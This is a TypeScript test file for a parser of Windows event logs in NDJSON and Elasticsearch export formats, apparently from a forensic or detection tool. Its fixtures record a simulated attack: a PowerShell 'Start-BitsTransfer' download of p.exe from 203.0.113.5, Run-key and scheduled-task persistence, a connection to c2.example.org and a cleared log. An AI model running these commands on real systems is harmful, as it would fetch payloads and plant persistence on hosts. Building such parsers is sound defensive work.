import {writeFileSync} from 'node:fs'
import {join} from 'node:path'
import t from 'tap'
import {createJsonParser, createNdjsonParser, jsonParser, looksLikeJsonExport, looksLikeNdjson, ndjsonParser} from '../../src/parsers/ndjson/index.js'
import {JsonElementStream} from '../../src/parsers/ndjson/json-stream.js'
import {runParser} from '../windows-event/run-parser.js'

const S = 'samples/ndjson'

t.test('Winlogbeat/ECS NDJSON: Windows events through mapWinEvent, blank line skipped, search hit unwrapped', async (t) => {
  const r = await runParser(ndjsonParser, `${S}/winlogbeat.ndjson`)
  t.strictSame(r.issues, [])
  t.equal(r.records, 6)
  t.strictSame(r.events.map((e) => [e.source.line, e.source.record, e.source.kind, e.eventId, e.action, e.time, e.host]), [
    [1, 1, 'ndjson', 1, 'process-start', '2026-12-03T13:20:00.123Z', 'WS03.contoso.local'],
    [2, 2, 'ndjson', 4688, 'process-start', '2026-12-03T12:21:00.5Z', 'DC01.contoso.local'],
    [3, 3, 'ndjson', 3, 'bits-job-created', '2026-12-03T13:22:00Z', 'WS03.contoso.local'],
    [5, 4, 'ndjson', 7045, 'service-installed', '2026-12-03T13:23:00.000Z', 'WS03.contoso.local'],
    [6, 5, 'ndjson', 4625, 'logon-failed', '2026-12-03T13:24:00.000Z', 'DC01.contoso.local'],
    [7, 6, 'ndjson', 22, 'dns-query', '2026-12-03T13:25:00.250Z', 'WS03.contoso.local'],
  ])
  const [sysmon, sec, bits] = r.events
  t.strictSame(sysmon!.process, {
    image: 'C:\\Windows\\System32\\cmd.exe', pid: 3100, parentImage: 'C:\\Windows\\System32\\svchost.exe', commandLine: 'cmd.exe /c start /b C:\\Users\\Public\\p.exe',
    guid: '{aaaa1111-0000-0000-0000-000000001111}', user: 'CONTOSO\\erin', integrity: 'Medium', currentDirectory: 'C:\\Windows\\system32\\', hashes: 'SHA256=AB12',
    parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs', parentPid: 999, parentGuid: '{aaaa1111-0000-0000-0000-000000000999}',
  })
  t.strictSame(sysmon!.user, {domain: 'CONTOSO', name: 'erin'})
  t.equal(sysmon!.data?.['agent.type'], undefined)
  t.equal(sysmon!.data?.['host.name'], 'ws03')
  t.equal(sysmon!.data?.['event.category'], 'process')
  t.equal(sysmon!.data?.['event.type'], '["start","process_start"]')
  t.strictSame(sec!.process, {image: 'C:\\Windows\\System32\\bitsadmin.exe', commandLine: 'bitsadmin /create upd', pid: 6700, user: 'CONTOSO\\erin', integrity: 'Medium', parentImage: 'C:\\Windows\\System32\\cmd.exe', parentPid: 1000})
  t.strictSame(bits!.bits, {id: '{11112222-3333-4444-5555-666677778888}', title: 'upd', owner: 'CONTOSO\\erin', creatingProcess: 'C:\\Windows\\System32\\bitsadmin.exe', creatingPid: 6700})
  t.strictSame(bits!.user, {domain: 'CONTOSO', name: 'erin', sid: 'S-1-5-21-1111-2222-3333-1107'})
  t.strictSame(r.events[5]!.network, {destinationHost: 'c2.example.org'})
})

t.test('bulk file: action lines skipped, update doc read, non-Windows ECS registry document mapped', async (t) => {
  const r = await runParser(ndjsonParser, `${S}/bulk.ndjson`)
  t.strictSame(r.issues, [])
  t.equal(r.records, 3)
  t.strictSame(r.events.map((e) => [e.source.line, e.category, e.action]), [[2, 'process', 'powershell-script-block'], [4, 'registry', 'registry-value-set'], [7, 'bits', 'bits-job-cancelled']])
  t.equal(r.events[0]!.data?.ScriptBlockText, 'Start-BitsTransfer -Source http://203.0.113.5/p.exe\n-Destination $env:PUBLIC\\p.exe')
  t.strictSame(r.events[1]!.registry, {key: 'HKU\\S-1-5-21-1111-2222-3333-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', operation: 'set', value: 'upd', data: 'C:\\Users\\Public\\p.exe', type: 'REG_SZ'})
  t.strictSame([r.events[1]!.host, r.events[1]!.user, r.events[1]!.process], ['ws03', {name: 'erin', domain: 'CONTOSO'}, {image: 'C:\\Windows\\regedit.exe', pid: 4000}])
  t.strictSame(r.events[2]!.bits, {id: '{11112222-3333-4444-5555-666677778888}', title: 'upd', owner: 'CONTOSO\\erin', fileCount: 1})
})

t.test('evtx_dump JSONL records', async (t) => {
  const r = await runParser(ndjsonParser, `${S}/evtx-dump.jsonl`)
  t.strictSame(r.issues, [])
  t.strictSame(r.events.map((e) => [e.eventId, e.action, e.time, e.source.record]), [
    [3, 'bits-job-created', '2019-03-19T23:34:24.180394Z', 1],
    [61, 'bits-transfer-error', '2019-03-19T23:34:25.5Z', 2],
    [16403, 'bits-file-details', '2026-12-03T13:30:00.0000001Z', 3],
    [4698, 'task-registered', '2026-12-03T13:31:00.7654321Z', 4],
    [4104, 'powershell-script-block', '2026-12-03T13:32:00.0000000Z', 5],
    [200, 'task-action-started', '2026-12-03T13:33:00.0000000Z', 6],
    [3, 'network-connection', '2026-12-03T13:34:00.123Z', 7],
    [1102, 'log-cleared', '2026-12-03T13:35:00.0000000Z', 8],
    [800, 'powershell-pipeline', '2026-12-03T13:36:00.0000000Z', 9],
    [7036, 'service-state-changed', '2026-12-03T13:37:00.0000000Z', 10],
  ])
  const e = r.events
  t.strictSame([e[0]!.bits, e[0]!.user, e[0]!.host], [{title: 'backdoor', owner: 'IEWIN7\\IEUser'}, {domain: 'IEWIN7', name: 'IEUser', sid: 'S-1-5-21-3583694148-1414552638-2922671848-1000'}, 'IEWIN7'])
  t.strictSame(e[1]!.bits, {id: '{9F1E8A7B-0000-0000-0000-000000000002}', title: 'backdoor', files: [{url: 'C:\\Windows\\system32\\cmd.exe', bytesTransferred: 0}], bytesTransferred: 0, hresult: '0x80070005'})
  t.strictSame(e[2]!.bits?.files, [{url: 'https://203.0.113.5/p.exe', local: 'C:\\Users\\Public\\p.exe'}])
  t.strictSame(e[3]!.task, {
    triggers: [{type: 'Boot', enabled: true, delay: 'PT1M'}], actions: [{type: 'exec', command: 'cmd.exe', arguments: '/c bitsadmin /resume keeper'}],
    uri: '\\BitsKeeper', principal: {id: 'Author', userId: 'S-1-5-18', runLevel: 'HighestAvailable'}, hidden: true, enabled: true, path: '\\BitsKeeper',
  })
  t.strictSame(e[6]!.network, {protocol: 'tcp', sourceIp: '10.0.0.5', sourcePort: 50500, destinationIp: '203.0.113.77', destinationPort: 443, destinationHost: 'c2.example.org'})
  t.strictSame(e[7]!.user, {name: 'Administrator', domain: 'CONTOSO', sid: 'S-1-5-21-1111-2222-3333-500'})
  t.strictSame(e[8]!.process, {commandLine: 'powershell.exe -ep bypass -c Start-BitsTransfer http://203.0.113.5/p.exe'})
  t.equal(e[8]!.data?.Data2, 'CommandInvocation(Start-BitsTransfer): "Start-BitsTransfer"')
})

t.test('a _search response is streamed hit by hit', async (t) => {
  const r = await runParser(jsonParser, `${S}/search-response.json`)
  t.strictSame(r.issues, [])
  t.strictSame(r.events.map((e) => [e.source.kind, e.source.line, e.source.record, e.action]), [['json', 17, 1, 'file-create'], ['json', 37, 2, 'task-registered'], ['json', 55, 3, 'bits-transfer-started']])
  t.strictSame(r.events[0]!.file, {path: 'C:\\Users\\Public\\p.exe', operation: 'create'})
  t.strictSame(r.events[1]!.task, {triggers: [], actions: [], path: '\\BitsKeeper'})
  t.strictSame(r.events[2]!.bits?.files, [{url: 'https://203.0.113.5/p.exe', bytesTotal: 73802, bytesTransferred: 0}])
})

t.test('damaged NDJSON and truncated JSON: reported with line numbers, the rest parsed', async (t) => {
  const path = `${S}/damaged.ndjson`
  const r = await runParser(ndjsonParser, path)
  t.strictSame(r.issues, [
    {path, severity: 'error', line: 2, reason: 'line is not valid JSON: Expected double-quoted property name in JSON at position 71'},
    {path, severity: 'error', line: 3, reason: 'line skipped: the JSON value is not an object'},
    {path, severity: 'error', line: 5, reason: 'line skipped: not a Windows event record: no readable Event.System.EventID'},
  ])
  t.strictSame(r.events.map((e) => [e.source.line, e.action]), [[1, 'bits-job-created'], [4, 'service-installed'], [6, 'logon-failed']])
  const tpath = `${S}/damaged-truncated.json`
  const tr = await runParser(jsonParser, tpath)
  t.strictSame(tr.issues, [{path: tpath, severity: 'error', line: 55, reason: 'JSON ends inside a value (5 unclosed bracket(s))'}])
  t.strictSame(tr.events.map((e) => e.action), ['file-create', 'task-registered'])
})

t.test('over-long lines and documents are skipped and reported', async (t) => {
  const dir = t.testdir({})
  const small = '{"winlog":{"event_id":5,"provider_name":"Microsoft-Windows-Sysmon","event_data":{"Image":"C:\\\\a.exe"}}}'
  const big = `{"winlog":{"event_id":5,"provider_name":"Microsoft-Windows-Sysmon","event_data":{"Image":"${'x'.repeat(5000)}"}}}`
  writeFileSync(join(dir, 'a.ndjson'), `${small}\n${big}\n${small}\n`)
  const r = await runParser(createNdjsonParser({maxDocumentChars: 1000}), join(dir, 'a.ndjson'))
  t.strictSame(r.issues.map((i) => [i.line, i.reason]), [[2, 'line longer than 1000 characters skipped']])
  t.strictSame(r.events.map((e) => [e.source.line, e.process?.image]), [[1, 'C:\\a.exe'], [3, 'C:\\a.exe']])
  writeFileSync(join(dir, 'a.json'), `[${small},\n${big},\n${small}]`)
  const j = await runParser(createJsonParser({maxDocumentChars: 1000}), join(dir, 'a.json'))
  t.strictSame(j.issues.map((i) => [i.line, i.reason]), [[2, 'JSON document longer than 1000 characters skipped']])
  t.strictSame(j.events.map((e) => [e.source.line, e.process?.image]), [[1, 'C:\\a.exe'], [3, 'C:\\a.exe']])
})

t.test('a file of garbage reports its first 1000 problems and counts the rest', async (t) => {
  const dir = t.testdir({})
  writeFileSync(join(dir, 'junk.ndjson'), 'not json\n'.repeat(1005) + '{"winlog":{"event_id":5,"provider_name":"Microsoft-Windows-Sysmon","event_data":{"Image":"C:\\\\z.exe"}}}\n')
  const r = await runParser(ndjsonParser, join(dir, 'junk.ndjson'))
  t.equal(r.issues.length, 1001)
  t.strictSame(r.issues[999]!.line, 1000)
  t.strictSame(r.issues[1000], {path: join(dir, 'junk.ndjson'), severity: 'error', reason: '5 more problem(s) in this file not listed (only the first 1000 are)'})
  t.strictSame(r.events.map((e) => [e.source.line, e.process?.image]), [[1006, 'C:\\z.exe']])
})

t.test('JSON element stream: same documents whatever the chunking', async (t) => {
  const text = '{"took":1,"hits":{"total":2,"hits":[{"_source":{"a":"x}\\"]"}} , {"_source":{"b":[1,{"c":2}]}}]},"aggregations":{"hits":{"hits":[9]}}}\n[{"z":1}]'
  const run = (size: number) => {
    const s = new JsonElementStream(1000)
    const out = []
    for (let i = 0; i < text.length; i += size) out.push(...s.push(text.slice(i, i + size)))
    out.push(...s.end())
    return out
  }
  const whole = run(text.length)
  t.strictSame(whole, [
    {text: '{"_source":{"a":"x}\\"]"}}', line: 1},
    {text: '{"_source":{"b":[1,{"c":2}]}}', line: 1},
    {text: '{"z":1}', line: 2},
  ])
  for (const size of [1, 2, 3, 7, 13]) t.strictSame(run(size), whole, `chunks of ${size}`)
  const deep = new JsonElementStream(1000)
  t.strictSame([...deep.push(`{"a":1}\n${'['.repeat(100000)}`), ...deep.push(']]]'), ...deep.end()], [
    {text: '{"a":1}', line: 1},
    {error: 'JSON nested deeper than 512 levels; the rest of the file is not read', line: 2},
  ])
})

t.test('content detection for discovery', async (t) => {
  t.equal(looksLikeNdjson('{"@timestamp":"2026-12-03T13:20:00Z","winlog":{"event_id":1}}\n{"@timestamp":"x"}\n'), 'NDJSON: Winlogbeat/ECS document (winlog.*)')
  t.equal(looksLikeNdjson(Buffer.from('{"Event":{"#attributes":{"xmlns":"x"},"System":{}}}\n')), 'NDJSON: evtx_dump-style {"Event": {"System": ...}} record')
  t.equal(looksLikeNdjson('{"index":{"_index":"w"}}\n{"@timestamp":"x"}\n'), 'NDJSON: Elasticsearch bulk file')
  t.equal(looksLikeNdjson('{\n  "took": 12,\n  "hits": {'), null)
  t.equal(looksLikeNdjson('{"took":12,"timed_out":false,"hits":{"hits":[{"_source":{"a":1}}]}}\n'), null)
  t.equal(looksLikeNdjson('{"name":"package","version":"1.0.0"}\n'), null)
  t.equal(looksLikeJsonExport('{\n  "took": 12,\n  "timed_out": false,\n  "hits": {\n'), 'JSON: Elasticsearch _search response (hits.hits)')
  t.equal(looksLikeJsonExport('[{"_index":"w","_source":{"a":1}}]'), 'JSON: array of documents, Elasticsearch documents (_source)')
  t.equal(looksLikeJsonExport('{"compilerOptions":{}}'), null)
  t.equal(looksLikeJsonExport('name,size'), null)
})
